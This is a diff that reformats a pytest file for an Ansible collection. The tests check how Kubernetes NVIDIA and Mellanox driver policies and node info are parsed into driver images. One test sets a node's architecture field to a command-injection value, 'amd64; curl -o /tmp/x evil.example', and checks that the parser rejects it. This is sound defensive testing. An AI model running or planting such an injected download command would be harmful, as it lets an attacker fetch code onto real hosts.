@@ -11,12 +11,16 @@ import hypothesis.strategies as st
 import pytest
 
 from ansible_collections.linerate.rdma.plugins.module_utils._model.drivers import DriverHost, DriverPolicy, driver_image
-from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes.drivers import driver_host, driver_policy, driver_selector
+from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes.drivers import (
+    driver_host,
+    driver_policy,
+    driver_selector,
+)
 from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes.resource import ResourceError
 
 NFD = "feature.node.kubernetes.io"
 #: as NVIDIA's guide has it, with what the operator reports [network-operator-docs docs/quick-start/sriov-ib-rdma.rst]
-NIC_POLICY: typing.Dict[str, typing.Any] = {
+NIC_POLICY: dict[str, typing.Any] = {
     "apiVersion": "mellanox.com/v1alpha1",
     "kind": "NicClusterPolicy",
     "metadata": {"name": "nic-cluster-policy"},
@@ -34,11 +38,15 @@ NIC_POLICY: typing.Dict[str, typing.Any] = {
         "state": "notReady",
         "appliedStates": [
             {"name": "state-multus-cni", "state": "ignore"},
-            {"name": "state-OFED", "state": "error", "message": "ForcePrecompiled is enabled and precompiled tag was not found: doca3.2.0-25.10"},
+            {
+                "name": "state-OFED",
+                "state": "error",
+                "message": "ForcePrecompiled is enabled and precompiled tag was not found: doca3.2.0-25.10",
+            },
         ],
     },
 }
-NODE: typing.Dict[str, typing.Any] = {
+NODE: dict[str, typing.Any] = {
     "metadata": {
         "name": "worker-1",
         "labels": {
@@ -48,16 +56,25 @@ NODE: typing.Dict[str, typing.Any] = {
             f"{NFD}/pci-10de.present": "true",
         },
     },
-    "status": {"nodeInfo": {"architecture": "amd64", "kernelVersion": "5.15.0-92-generic", "osImage": "Ubuntu 22.04.4 LTS"}},
+    "status": {
+        "nodeInfo": {"architecture": "amd64", "kernelVersion": "5.15.0-92-generic", "osImage": "Ubuntu 22.04.4 LTS"}
+    },
 }
 
 
 def test_a_nic_cluster_policy_with_what_its_operator_says_of_the_driver() -> None:
     seen = driver_policy(NIC_POLICY)
-    assert (seen.container, seen.image, seen.version) == (True, "nvcr.io/nvidia/mellanox/doca-driver", "doca3.2.0-25.10-1.2.8.0-2")
+    assert (seen.container, seen.image, seen.version) == (
+        True,
+        "nvcr.io/nvidia/mellanox/doca-driver",
+        "doca3.2.0-25.10-1.2.8.0-2",
+    )
     assert (seen.precompiled, seen.repositories, seen.ready) == (True, "repo-config", False)
     assert seen.message.startswith("ForcePrecompiled is enabled and precompiled tag was not found")
-    ready = {**NIC_POLICY, "status": {"state": "notReady", "appliedStates": [{"name": "state-OFED", "state": "ready", "message": "old"}]}}
+    ready = {
+        **NIC_POLICY,
+        "status": {"state": "notReady", "appliedStates": [{"name": "state-OFED", "state": "ready", "message": "old"}]},
+    }
     assert (driver_policy(ready).ready, driver_policy(ready).message) == (True, ""), "another part is not ready"
     assert not driver_policy({**NIC_POLICY, "spec": {"nvIpam": {}}, "status": {"state": "ready"}}).container
 
@@ -65,15 +82,32 @@ def test_a_nic_cluster_policy_with_what_its_operator_says_of_the_driver() -> Non
 @pytest.mark.parametrize(
     ("driver", "container", "precompiled"),
     [
-        ({"enabled": True, "repository": "nvcr.io/nvidia", "image": "driver", "version": "580.105.08", "repoConfig": {"configMapName": "r"}}, True, False),
+        (
+            {
+                "enabled": True,
+                "repository": "nvcr.io/nvidia",
+                "image": "driver",
+                "version": "580.105.08",
+                "repoConfig": {"configMapName": "r"},
+            },
+            True,
+            False,
+        ),
         ({"usePrecompiled": True, "version": "580"}, True, True),
         ({"enabled": False}, False, False),
         ({"enabled": True, "useNvidiaDriverCRD": True}, False, False),
         ({}, True, False),
     ],
 )
-def test_a_cluster_policy(driver: typing.Dict[str, typing.Any], container: bool, precompiled: bool) -> None:
-    seen = driver_policy({"kind": "ClusterPolicy", "metadata": {"name": "cluster-policy"}, "spec": {"driver": driver}, "status": {"state": "ready"}})
+def test_a_cluster_policy(driver: dict[str, typing.Any], container: bool, precompiled: bool) -> None:
+    seen = driver_policy(
+        {
+            "kind": "ClusterPolicy",
+            "metadata": {"name": "cluster-policy"},
+            "spec": {"driver": driver},
+            "status": {"state": "ready"},
+        }
+    )
     assert (seen.container, seen.precompiled, seen.ready) == (container, precompiled, container)
     assert seen.repositories == ("r" if "repoConfig" in driver else "")
 
@@ -81,7 +115,9 @@ def test_a_cluster_policy(driver: typing.Dict[str, typing.Any], container: bool,
 def test_a_node_by_what_its_image_is_chosen() -> None:
     assert driver_host(NODE) == DriverHost("worker-1", "ubuntu", "22.04", "5.15.0-91-generic", "amd64", "", True)
     bare = driver_host({**NODE, "metadata": {"name": "worker-1"}})
-    assert bare == DriverHost("worker-1", kernel="5.15.0-92-generic", machine="amd64"), "without node feature discovery the kubelet tells the kernel"
+    assert bare == DriverHost("worker-1", kernel="5.15.0-92-generic", machine="amd64"), (
+        "without node feature discovery the kubelet tells the kernel"
+    )
     info = {**NODE["status"]["nodeInfo"], "architecture": "amd64; curl -o /tmp/x evil.example"}
     assert driver_host({**NODE, "status": {**NODE["status"], "nodeInfo": info}}).machine == "", "it stands in a command"
 
@@ -99,7 +135,9 @@ def test_a_node_by_what_its_image_is_chosen() -> None:
     ],
 )
 def test_tags(kind: str, version: str, precompiled: bool, expected: str) -> None:
-    assert driver_image(DriverPolicy(kind, "p", image="r/i", version=version), driver_host(NODE), precompiled) == expected
+    assert (
+        driver_image(DriverPolicy(kind, "p", image="r/i", version=version), driver_host(NODE), precompiled) == expected
+    )
 
 
 def test_what_is_left_to_the_operator_is_in_capitals() -> None:
@@ -107,15 +145,23 @@ def test_what_is_left_to_the_operator_is_in_capitals() -> None:
 
 
 JSON = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.text(max_size=8), lambda inner: st.dictionaries(st.text(max_size=8), inner) | st.lists(inner)
+    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
+    lambda inner: st.dictionaries(st.text(max_size=8), inner) | st.lists(inner),
 )
 
 
 @hypothesis.given(
-    st.dictionaries(st.sampled_from(("ofedDriver", "driver", "x")), JSON), st.dictionaries(st.sampled_from(("state", "appliedStates")), JSON), st.booleans()
+    st.dictionaries(st.sampled_from(("ofedDriver", "driver", "x")), JSON),
+    st.dictionaries(st.sampled_from(("state", "appliedStates")), JSON),
+    st.booleans(),
 )
 def test_any_other_object_is_a_policy_or_an_error(spec: typing.Any, status: typing.Any, nics: bool) -> None:
-    resource = {"kind": "NicClusterPolicy" if nics else "ClusterPolicy", "metadata": {"name": "a"}, "spec": spec, "status": status}
+    resource = {
+        "kind": "NicClusterPolicy" if nics else "ClusterPolicy",
+        "metadata": {"name": "a"},
+        "spec": spec,
+        "status": status,
+    }
     try:
         assert driver_policy(resource).name == "a"
     except ResourceError as error:
@@ -123,7 +169,12 @@ def test_any_other_object_is_a_policy_or_an_error(spec: typing.Any, status: typi
 
 
 def test_a_nic_node_policy_is_one_of_the_nodes_of_its_selector() -> None:
-    policy = {**NIC_POLICY, "kind": "NicNodePolicy", "metadata": {"name": "pool-a"}, "spec": {**NIC_POLICY["spec"], "nodeSelector": {"pool": "a"}}}
+    policy = {
+        **NIC_POLICY,
+        "kind": "NicNodePolicy",
+        "metadata": {"name": "pool-a"},
+        "spec": {**NIC_POLICY["spec"], "nodeSelector": {"pool": "a"}},
+    }
     seen = driver_policy(policy)
     assert (seen.kind, seen.name, seen.container, seen.ready) == ("NicNodePolicy", "pool-a", True, False)
     assert seen.image == driver_policy(NIC_POLICY).image and seen.message.startswith("ForcePrecompiled is enabled")
@@ -133,13 +184,34 @@ def test_a_nic_node_policy_is_one_of_the_nodes_of_its_selector() -> None:
 
 def test_an_nvidia_driver_and_the_policy_that_leaves_the_driver_to_it() -> None:
     """[NVIDIA/gpu-operator api/nvidia/v1alpha1 NVIDIADriverSpec]"""
-    spec = {"driverType": "gpu", "repository": "nvcr.io/nvidia", "image": "driver", "version": "580.95.05", "repoConfig": {"name": "repos"}}
-    made = {"kind": "NVIDIADriver", "metadata": {"name": "demo"}, "spec": {**spec, "nodeSelector": {"pool": "a"}}, "status": {"state": "notReady"}}
+    spec = {
+        "driverType": "gpu",
+        "repository": "nvcr.io/nvidia",
+        "image": "driver",
+        "version": "580.95.05",
+        "repoConfig": {"name": "repos"},
+    }
+    made = {
+        "kind": "NVIDIADriver",
+        "metadata": {"name": "demo"},
+        "spec": {**spec, "nodeSelector": {"pool": "a"}},
+        "status": {"state": "notReady"},
+    }
     seen = driver_policy(made)
-    assert (seen.kind, seen.container, seen.ready, seen.image, seen.version) == ("NVIDIADriver", True, False, "nvcr.io/nvidia/driver", "580.95.05")
+    assert (seen.kind, seen.container, seen.ready, seen.image, seen.version) == (
+        "NVIDIADriver",
+        True,
+        False,
+        "nvcr.io/nvidia/driver",
+        "580.95.05",
+    )
     assert (seen.repositories, seen.precompiled, driver_selector(made)) == ("repos", False, {"pool": "a"})
     assert driver_policy({**made, "status": {"state": "ready"}}).ready
-    policy = {"kind": "ClusterPolicy", "metadata": {"name": "cluster-policy"}, "spec": {"driver": {"useNvidiaDriverCRD": True}}}
+    policy = {
+        "kind": "ClusterPolicy",
+        "metadata": {"name": "cluster-policy"},
+        "spec": {"driver": {"useNvidiaDriverCRD": True}},
+    }
     assert (driver_policy(policy).container, driver_policy(policy).delegated) == (False, True)
     off = {**policy, "spec": {"driver": {"useNvidiaDriverCRD": True, "enabled": False}}}
     assert not driver_policy(off).delegated
